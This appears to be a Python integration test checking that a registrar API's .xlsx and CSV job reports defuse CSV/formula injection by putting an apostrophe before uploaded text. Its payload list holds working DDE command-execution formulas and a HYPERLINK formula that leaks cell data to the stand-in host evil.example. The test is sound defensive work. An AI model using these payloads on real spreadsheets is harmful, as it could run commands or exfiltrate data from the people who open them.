"""CSV/formula injection through job reports: text a secretariat uploads comes back in
the report (.xlsx and CSV), where a spreadsheet would run anything that starts with
``=``, ``+``, ``-``, ``@``, a tab or a line break (OWASP's list). Every such cell comes
back behind an apostrophe, shown as uploaded and never run, and the .xlsx holds no
formula at all: in the cells copied from the upload, in the headers, and in the reasons
that quote them.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import Workbook, load_workbook

from chalicelib.domain.jobs import XLSX
from tests.integration.test_registrar_api import _staff_token
from tests.support.browser import Browser
from tests.support.sheets import RENEWAL_HEADERS

API = "/api/v1/realms/ntua/admin"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\n",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
AS_READ = ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]
"""Each payload in the report: behind an apostrophe (and a lone carriage return comes
back from the uploaded XML as a line feed, as XML prescribes)."""
HOSTILE_HEADER = '=HYPERLINK("http://evil.example","Σχόλια")'


def _upload() -> bytes:
    """A renewal sheet whose usernames, dates and an extra column carry the payloads, as
    text cells (what a pasted or imported value is; a formula cell is refused outright)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*RENEWAL_HEADERS.values(), HOSTILE_HEADER])
    sheet.cell(row=1, column=3).data_type = "s"
    for payload in PAYLOADS:
        row = sheet.max_row + 1
        for column in (1, 2, 3):
            cell = sheet.cell(row=row, column=column, value=payload)
            cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _inert(text: Any) -> bool:
    return not isinstance(text, str) or not text.startswith(TRIGGERS)


def test_reports_give_formula_like_text_back_inert_in_xlsx_and_csv(browser: Browser) -> None:
    # Given a renewal job of that sheet, run to its report (every row rejected: no such
    # usernames, no such dates)
    auth = {"Authorization": f"Bearer {_staff_token(browser)}"}
    accepted = browser.post(f"{API}/renewal-jobs", body=_upload(), headers={**auth, "Content-Type": XLSX})
    assert accepted.status == 202, accepted.text
    browser.run_tasks()
    job = browser.get(f"{API}/jobs/{accepted.json['job_id']}", headers=auth).json
    assert (job["status"], job["rejected"]) == ("completed", len(PAYLOADS)), job

    # When the report is downloaded as .xlsx
    report = browser.get(f"{API}/jobs/{job['job_id']}/report", headers={**auth, "Accept": XLSX})
    assert report.status == 200, report.text
    worksheet = load_workbook(io.BytesIO(report.body)).worksheets[0]
    cells = [cell for row in worksheet.iter_rows() for cell in row]

    # Then no cell is a formula, and every text is inert
    assert all(cell.data_type != "f" for cell in cells)
    assert all(_inert(cell.value) for cell in cells), [cell.value for cell in cells if not _inert(cell.value)]
    # and each payload is still there to read, behind its apostrophe
    notes = [worksheet.cell(row=row, column=3).value for row in range(2, 2 + len(PAYLOADS))]
    assert notes == AS_READ
    assert worksheet.cell(row=1, column=3).value == "'" + HOSTILE_HEADER

    # And the CSV report (by Accept and by ?format=csv) is just as inert, cell by cell
    for csv_report in (
        browser.get(f"{API}/jobs/{job['job_id']}/report", headers={**auth, "Accept": "text/csv"}),
        browser.get(f"{API}/jobs/{job['job_id']}/report?format=csv", headers=auth),
    ):
        assert csv_report.status == 200 and csv_report.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(csv_report.body.decode("utf-8-sig"), newline="")))
        assert rows[0][2] == "'" + HOSTILE_HEADER
        assert all(_inert(value) for row in rows for value in row), rows
        assert [row[0] for row in rows[1:]] == [row[2] for row in rows[1:]] == AS_READ
